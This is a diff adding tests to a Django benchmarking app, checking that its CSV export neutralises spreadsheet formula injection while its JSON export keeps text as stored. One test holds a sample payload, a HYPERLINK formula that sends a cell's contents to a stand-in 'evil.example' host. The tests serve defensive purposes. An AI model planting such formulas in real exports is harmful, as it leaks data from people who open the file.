@@ -9,7 +9,7 @@ from django.urls import reverse
 from benchmarks.models import LLM, Engine, Host, Sweep, Workload
 from runs.models import Point, RequestRecord, Run
 from runs.results import compare as compare_lib
-from runs.results.exports import CSV_COLUMNS, EXPORT_COLUMNS
+from runs.results.exports import CSV_COLUMNS, EXPORT_COLUMNS, spreadsheet_safe
 from sweepcore.metrics import LATENCY_FIELDS, higher_is_better
 from tests.web.records import add_records
 
@@ -241,6 +241,33 @@ def test_points_csv_and_json_have_the_same_columns_and_contents(catalog, viewer,
     assert data["points"][2]["params"] == {"budget": 8, "topk_cap": 8}
     assert data["points"][3]["status"] == "crashed" and data["points"][3]["decode_tok_s"] is None
     assert [str(p["point_id"]) for p in data["points"]] == [dict(zip(header, r))["point_id"] for r in body]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_text_that_would_start_a_formula_is_exported_as_text(text):
+    assert spreadsheet_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["a=b", "sim 1.0", "", 100.0, -3.5, 0, True, None])
+def test_numbers_and_other_text_are_exported_as_they_are(value):
+    assert spreadsheet_safe(value) == value
+
+
+def test_points_csv_neutralises_formulas_from_an_import_and_keeps_the_numbers(catalog, viewer, client):
+    sweep = make_sweep("s1", CONFIGS)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    Run.objects.filter(sweep=sweep).update(engine_version=hostile)
+    Point.objects.filter(run__sweep=sweep, position=1, run__position=1).update(
+        status="crashed", reason="@SUM(1+1)", decode_tok_s=None)
+    client.force_login(viewer)
+    response = client.get(reverse("sweep-points-csv", args=[sweep.pk]))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert {r["engine_version"] for r in rows} == {"'" + hostile}
+    assert [r["reason"] for r in rows if r["status"] == "crashed"] == ["'@SUM(1+1)"]
+    assert [r["decode_tok_s"] for r in rows if r["status"] == "ok"][0] == "100.0"
+    # points.json is not a spreadsheet's: its text stays exactly as stored.
+    data = client.get(reverse("sweep-points-json", args=[sweep.pk])).json()
+    assert {p["engine_version"] for p in data["points"]} == {hostile}
 
 
 def test_exports_say_the_model_engine_host_and_gpu_first(catalog, viewer, client):
